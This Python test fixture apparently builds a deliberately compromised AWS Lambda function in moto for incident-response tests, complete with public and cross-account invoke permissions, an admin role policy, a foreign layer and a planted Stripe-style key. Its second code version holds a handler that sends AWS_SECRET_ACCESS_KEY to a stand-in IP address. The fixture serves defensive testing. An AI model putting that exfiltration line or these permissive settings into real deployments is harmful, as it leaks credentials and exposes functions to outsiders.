"""The compromised function the respond tests work on, built in moto over HTTP.

``payments-sync``: two published versions (different code), alias ``live`` on version 1 routing
10% to version 2, a public statement on the alias, a same-account one and an EventBridge
service statement on ``$LATEST``, a cross-account one on version 2, a public function URL with
its public ``InvokeFunctionUrl`` statement (and an ``AWS_IAM`` one on the alias, to be left), an SQS mapping, an EventBridge rule and a Scheduler
schedule targeting it, one own layer (readable) and one foreign layer (unreadable).
"""

from __future__ import annotations

import io
import json
import zipfile
from typing import Any

ACCOUNT = "123456789012"
REGION = "us-east-1"
NAME = "payments-sync"
FOREIGN_LAYER = "arn:aws:lambda:us-east-1:999999999999:layer:telemetry:4"
TRUST = {
    "Version": "2012-10-17",
    "Statement": [
        {
            "Effect": "Allow",
            "Principal": {"Service": "lambda.amazonaws.com"},
            "Action": "sts:AssumeRole",
        }
    ],
}


def make_zip(name: str, text: str) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as zf:
        info = zipfile.ZipInfo(name, date_time=(2025, 3, 14, 8, 0, 0))
        zf.writestr(info, text)
    return buf.getvalue()


CODE_V1 = make_zip("app.py", "def handler(event, context):\n    return 'ok'\n")
CODE_V2 = make_zip(
    "app.py",
    "import os, urllib.request\n"
    "def handler(event, context):\n"
    "    urllib.request.urlopen('http://198.51.100.7/x', "
    "data=os.environ['AWS_SECRET_ACCESS_KEY'].encode())\n",
)
LAYER_ZIP = make_zip("python/utils.py", "X = 1\n")
SECRET = "sk_live_51HzYc2eZvKYlo2CabcdefGHIJKLmnop"


def build(client: Any, downloads: dict[str, bytes]) -> dict[str, Any]:
    """Create the scenario with the factory's clients; ``downloads`` maps code URL path -> zip."""
    iam, lam, sqs = client("iam"), client("lambda"), client("sqs")
    events, scheduler = client("events"), client("scheduler")
    role = iam.create_role(
        RoleName="payments-sync-role", AssumeRolePolicyDocument=json.dumps(TRUST)
    )["Role"]
    iam.put_role_policy(
        RoleName="payments-sync-role",
        PolicyName="inline-admin",
        PolicyDocument=json.dumps(
            {
                "Version": "2012-10-17",
                "Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}],
            }
        ),
    )
    sched_role = iam.create_role(
        RoleName="scheduler-role", AssumeRolePolicyDocument=json.dumps(TRUST)
    )["Role"]
    own_layer = lam.publish_layer_version(LayerName="shared-utils", Content={"ZipFile": LAYER_ZIP})[
        "LayerVersionArn"
    ]
    lam.add_layer_version_permission(
        LayerName="shared-utils",
        VersionNumber=1,
        StatementId="org",
        Action="lambda:GetLayerVersion",
        Principal=ACCOUNT,
    )
    downloads["/shared-utils-1"] = LAYER_ZIP
    fn = lam.create_function(
        FunctionName=NAME,
        Runtime="python3.12",
        Role=role["Arn"],
        Handler="app.handler",
        Code={"ZipFile": CODE_V1},
        Layers=[own_layer, FOREIGN_LAYER],
        Environment={"Variables": {"STRIPE_KEY": SECRET}},
        Tags={"team": "payments"},
    )
    lam.publish_version(FunctionName=NAME)
    lam.update_function_code(FunctionName=NAME, ZipFile=CODE_V2)
    lam.publish_version(FunctionName=NAME)
    for q, code in (("1", CODE_V1), ("2", CODE_V2), ("$LATEST", CODE_V2)):
        loc = lam.get_function(FunctionName=NAME, Qualifier=q)["Code"]["Location"]
        downloads["/" + loc.split("/", 3)[3]] = code
    lam.create_alias(
        FunctionName=NAME,
        Name="live",
        FunctionVersion="1",
        RoutingConfig={"AdditionalVersionWeights": {"2": 0.1}},
    )
    lam.add_permission(
        FunctionName=NAME,
        Qualifier="live",
        StatementId="public-invoke",
        Action="lambda:InvokeFunction",
        Principal="*",
    )
    lam.add_permission(
        FunctionName=NAME,
        StatementId="same-account",
        Action="lambda:InvokeFunction",
        Principal=ACCOUNT,
    )
    rule_arn = events.put_rule(Name="payments-every-minute", ScheduleExpression="rate(1 minute)")[
        "RuleArn"
    ]
    events.put_targets(
        Rule="payments-every-minute", Targets=[{"Id": "fn", "Arn": fn["FunctionArn"]}]
    )
    lam.add_permission(
        FunctionName=NAME,
        StatementId="events-invoke",
        Action="lambda:InvokeFunction",
        Principal="events.amazonaws.com",
        SourceArn=rule_arn,
    )
    lam.add_permission(
        FunctionName=NAME,
        Qualifier="2",
        StatementId="cross-account",
        Action="lambda:InvokeFunction",
        Principal="999999999999",
    )
    url = lam.create_function_url_config(FunctionName=NAME, AuthType="NONE")
    lam.create_function_url_config(FunctionName=NAME, Qualifier="live", AuthType="AWS_IAM")
    lam.add_permission(
        FunctionName=NAME,
        StatementId="FunctionURLAllowPublicAccess",
        Action="lambda:InvokeFunctionUrl",
        Principal="*",
        FunctionUrlAuthType="NONE",
    )
    queue = sqs.create_queue(QueueName="payments-jobs")["QueueUrl"]
    queue_arn = sqs.get_queue_attributes(QueueUrl=queue, AttributeNames=["QueueArn"])["Attributes"][
        "QueueArn"
    ]
    esm = lam.create_event_source_mapping(EventSourceArn=queue_arn, FunctionName=NAME, BatchSize=5)
    s3 = client("s3")
    s3.create_bucket(Bucket="payments-uploads")
    s3.put_bucket_notification_configuration(
        Bucket="payments-uploads",
        NotificationConfiguration={
            "LambdaFunctionConfigurations": [
                {"LambdaFunctionArn": fn["FunctionArn"], "Events": ["s3:ObjectCreated:*"]}
            ]
        },
    )
    s3.create_bucket(Bucket="unrelated-bucket")
    sns = client("sns")
    topic = sns.create_topic(Name="payments-events")["TopicArn"]
    sns.subscribe(TopicArn=topic, Protocol="lambda", Endpoint=f"{fn['FunctionArn']}:live")
    sns.subscribe(TopicArn=topic, Protocol="sqs", Endpoint=queue_arn)
    scheduler.create_schedule(
        Name="beacon",
        ScheduleExpression="rate(5 minutes)",
        FlexibleTimeWindow={"Mode": "OFF"},
        Target={"Arn": fn["FunctionArn"], "RoleArn": sched_role["Arn"]},
    )
    return {
        "function_arn": fn["FunctionArn"],
        "url": url["FunctionUrl"],
        "esm": esm["UUID"],
        "rule_arn": rule_arn,
        "role_arn": role["Arn"],
    }
